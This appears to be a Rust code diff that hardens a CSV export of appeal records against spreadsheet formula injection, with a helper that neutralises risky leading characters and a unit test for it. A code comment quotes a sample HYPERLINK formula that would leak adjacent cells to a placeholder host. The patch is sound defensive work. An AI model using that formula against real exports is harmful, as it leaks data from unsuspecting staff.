@@ -174,11 +174,24 @@ impl Names {
     }
 }
 
-/// One exported row as text cells (CSV) — XLSX writes the typed values itself.
+/// Keeps a cell from being read as a formula by spreadsheet programs: a subject like
+/// `=HYPERLINK("http://x/?"&L2,"…")` would otherwise run when staff open the file and
+/// leak the neighbouring cells (OWASP, CSV Injection). A leading apostrophe makes the
+/// cell text; the cell's characters are otherwise unchanged.
+fn defuse_formula(cell: String) -> String {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{cell}")
+    } else {
+        cell
+    }
+}
+
+/// One exported row as text cells (CSV) — XLSX writes the typed values itself, and its
+/// strings are never formulas.
 fn text_cells(a: &Appeal, names: &Names) -> Vec<String> {
     let (kato, territory) = names.territory(a.territory_id);
     let opt = |v: &Option<String>| v.clone().unwrap_or_default();
-    vec![
+    let cells = vec![
         a.reg_number.clone(),
         a.status.clone(),
         a.channel.clone(),
@@ -202,7 +215,8 @@ fn text_cells(a: &Appeal, names: &Names) -> Vec<String> {
         a.resolved_at
             .map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
             .unwrap_or_default(),
-    ]
+    ];
+    cells.into_iter().map(defuse_formula).collect()
 }
 
 /// Walks every matching appeal, newest first, a page at a time.
@@ -478,5 +492,15 @@ mod tests {
             Lang::Kk
         );
         assert_eq!(headers(Lang::En)[0], "Registration number");
+    }
+
+    #[test]
+    fn cells_that_spreadsheets_read_as_formulas_become_text() {
+        for risky in ["=1+1", "+7 701", "-2", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(defuse_formula(risky.to_owned()), format!("'{risky}"));
+        }
+        for safe in ["Ауыз су", "2026-04-15", "a=b", "", "'quoted"] {
+            assert_eq!(defuse_formula(safe.to_owned()), safe);
+        }
     }
 }
